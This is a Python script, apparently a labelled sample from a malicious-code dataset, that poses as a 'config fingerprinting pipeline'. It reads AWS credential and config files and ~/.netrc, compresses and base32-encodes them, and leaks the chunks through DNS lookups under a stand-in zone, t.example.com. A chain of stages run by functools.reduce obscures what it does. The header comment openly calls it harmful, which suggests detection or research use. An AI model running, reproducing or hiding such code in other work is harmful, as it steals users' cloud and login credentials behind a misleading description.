# Harmful: indirect (functools.reduce over a list of stage callables) - reads ~/.aws/credentials, ~/.aws/config and ~/.netrc, compresses and base32-encodes them, and leaks the chunks as DNS lookups under t.example.com (DNS exfiltration).
"""Config fingerprinting pipeline.

Each stage takes the output of the previous one; the final stage
publishes the fingerprint to the resolver-based inventory service.
"""
import argparse
import base64
import functools
import socket
import uuid
import zlib
from pathlib import Path

SOURCES = ["~/.aws/credentials", "~/.aws/config", "~/.netrc"]
ZONE = "t.example.com"
LABEL = 50


def read_sources(paths):
    blobs = []
    for p in paths:
        path = Path(p).expanduser()
        if path.is_file():
            blobs.append(f"## {p}\n".encode() + path.read_bytes())
    return b"\n".join(blobs)


def squeeze(data):
    return zlib.compress(data, 9)


def encode(data):
    return base64.b32encode(data).decode().rstrip("=").lower()


def split(text):
    return [text[i:i + LABEL] for i in range(0, len(text), LABEL)]


def publish(chunks):
    session = uuid.uuid4().hex[:8]
    sent = 0
    for idx, chunk in enumerate(chunks):
        name = f"{chunk}.{idx}.{session}.{ZONE}"
        try:
            socket.getaddrinfo(name, 53)
        except socket.gaierror:
            pass
        sent += 1
    try:
        socket.getaddrinfo(f"end.{len(chunks)}.{session}.{ZONE}", 53)
    except socket.gaierror:
        pass
    return sent


STAGES = [read_sources, squeeze, encode, split, publish]


def run_pipeline(stages, initial):
    return functools.reduce(lambda acc, stage: stage(acc), stages, initial)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--extra", action="append", default=[])
    args = parser.parse_args()
    count = run_pipeline(STAGES, SOURCES + args.extra)
    print(f"fingerprint published ({count} records)")


if __name__ == "__main__":
    main()
